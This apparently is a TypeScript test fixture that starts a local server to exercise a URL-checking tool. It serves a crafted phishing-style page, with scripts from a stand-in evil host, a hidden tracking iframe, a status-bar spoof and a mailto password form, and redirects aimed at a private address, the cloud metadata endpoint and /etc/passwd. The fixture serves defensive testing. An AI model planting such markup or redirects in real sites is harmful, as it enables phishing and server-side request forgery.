/**
 * A small web site on 127.0.0.1 for the URL-check tests: crafted pages for every HTML feature, redirect
 * chains, redirects into private and metadata addresses, a slow page, a huge page, and a self-signed
 * TLS endpoint (certificate made with openssl at start, in a temporary folder).
 */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import http from 'node:http';
import https from 'node:https';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

export const PHISHY_PAGE = `<!doctype html><html><head>
<link rel="icon" href="https://evil.test/favicon.ico">
<script src="https://evil.test/a.js"></script><script src="https://evil.test/b.js"></script>
<meta http-equiv="refresh" content="30; url=https://evil.test/next">
<script>document.onmousedown=function(e){if(event.button==2){alert('no');return false}}; var p = window.open('https://evil.test/pop');</script>
</head><body>
<img src="https://evil.test/logo.png"><img src="https://evil.test/bank.png"><img src="/local.png">
<a href="#">home</a><a href="javascript:void(0)">help</a><a href="https://evil.test/x">x</a>
<a href="/" onmouseover="window.status='https://bank.example'">bank</a>
<form action="mailto:collect@evil.test"><input name="password"></form>
<form action="">
<iframe src="https://evil.test/track" width="0" height="0" frameborder="0"></iframe>
</body></html>`;

export const PLAIN_PAGE = `<!doctype html><html><head><link rel="icon" href="/favicon.ico"><link rel="stylesheet" href="/s.css"><script src="/app.js"></script></head>
<body><img src="/a.png"><a href="/about">about</a><a href="/contact">contact</a><form action="/search"><input name="q"></form></body></html>`;

export interface FixtureSite {
  base: string;
  tlsBase: string;
  /** Requests seen: path, the cookie header sent (to prove none are kept), user-agent and accept-encoding. */
  seen: { path: string; cookie: string | undefined; userAgent: string | undefined; acceptEncoding: string | undefined }[];
  close(): Promise<void>;
}

function handler(seen: FixtureSite['seen'], hugeBytes: number): http.RequestListener {
  return (req, res) => {
    const url = new URL(req.url ?? '/', 'http://fixture');
    seen.push({ path: url.pathname, cookie: req.headers.cookie, userAgent: req.headers['user-agent'], acceptEncoding: req.headers['accept-encoding'] });
    const html = (body: string): void => {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'set-cookie': 'session=abc; Path=/' });
      res.end(body);
    };
    const redirect = (to: string): void => {
      res.writeHead(302, { location: to, 'set-cookie': 'tracker=1; Path=/' });
      res.end();
    };
    const m = /^\/chain\/(\d+)$/.exec(url.pathname);
    if (m) {
      const n = Number(m[1]);
      return n === 0 ? html(PLAIN_PAGE) : redirect(`/chain/${n - 1}`);
    }
    switch (url.pathname) {
      case '/phishy': return html(PHISHY_PAGE);
      case '/plain': return html(PLAIN_PAGE);
      case '/to-private': return redirect('http://10.0.0.1/admin');
      case '/to-metadata': return redirect('http://169.254.169.254/latest/meta-data/');
      case '/to-mapped': return redirect('http://[::ffff:192.168.0.1]/');
      case '/to-file': return redirect('file:///etc/passwd');
      case '/to-named': return redirect(url.searchParams.get('to') ?? '/');
      case '/loop': return redirect('/loop');
      case '/image': res.writeHead(200, { 'content-type': 'image/png' }); return res.end(Buffer.alloc(100));
      case '/slow':
        res.writeHead(200, { 'content-type': 'text/html' });
        res.write('<html>');
        setTimeout(() => res.end('</html>'), 5_000).unref();
        return;
      case '/huge': {
        res.writeHead(200, { 'content-type': 'text/html' });
        const block = Buffer.from('<p>' + 'x'.repeat(1020) + '</p>');
        let sent = 0;
        const pump = (): void => {
          while (sent < hugeBytes) {
            sent += block.length;
            if (!res.write(block)) return void res.once('drain', pump);
          }
          res.end();
        };
        res.on('error', () => undefined);
        return pump();
      }
      default:
        res.writeHead(404, { 'content-type': 'text/plain' });
        res.end('not found');
    }
  };
}

const listen = (server: http.Server): Promise<number> =>
  new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve((server.address() as AddressInfo).port)));

export async function startFixtureSite(opts: { hugeBytes?: number } = {}): Promise<FixtureSite> {
  const seen: FixtureSite['seen'] = [];
  const onRequest = handler(seen, opts.hugeBytes ?? 50 * 1024 * 1024);
  const dir = mkdtempSync(join(tmpdir(), 'ns-fixture-tls-'));
  execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', join(dir, 'key.pem'), '-out', join(dir, 'cert.pem'), '-days', '2', '-subj', '/CN=localhost'], { stdio: 'ignore' });
  const plain = http.createServer(onRequest);
  const tls = https.createServer({ key: readFileSync(join(dir, 'key.pem')), cert: readFileSync(join(dir, 'cert.pem')) }, onRequest);
  const [port, tlsPort] = await Promise.all([listen(plain), listen(tls)]);
  return {
    base: `http://127.0.0.1:${port}`,
    tlsBase: `https://127.0.0.1:${tlsPort}`,
    seen,
    async close() {
      plain.closeAllConnections();
      tls.closeAllConnections();
      await Promise.all([new Promise((r) => plain.close(r)), new Promise((r) => tls.close(r))]);
      rmSync(dir, { recursive: true, force: true });
    },
  };
}
